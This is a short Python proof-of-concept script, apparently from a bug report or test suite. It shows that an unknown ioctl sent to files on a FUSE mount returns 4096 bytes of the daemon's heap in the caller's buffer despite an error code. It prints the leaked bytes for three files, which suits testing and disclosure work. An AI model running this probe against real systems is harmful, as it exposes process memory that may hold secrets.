"""Unknown _IOR ioctl of 4096 bytes: EINVAL/ENOTTY as expected, but the caller's
buffer comes back overwritten with 4096 bytes of the daemon's heap (libfuse2
mallocs the out buffer and sends it back even when the answer is an error)."""
from _common import MNT, ctypes, libc, os

cmd = (2 << 30) | (4096 << 16) | (0xAE << 8) | 0xFF          # _IOR(0xAE, 0xFF, char[4096])
for name in ("kvm", "cmd", "info/vms"):
    fd = os.open(os.path.join(MNT, name), os.O_RDONLY)
    buf = ctypes.create_string_buffer(b"\xa5" * 4096, 4096)
    rc = libc.ioctl(fd, cmd, buf)
    print(name, rc, os.strerror(ctypes.get_errno()), "changed bytes:",
          sum(a != 0xA5 for a in buf.raw), buf.raw[:32].hex())
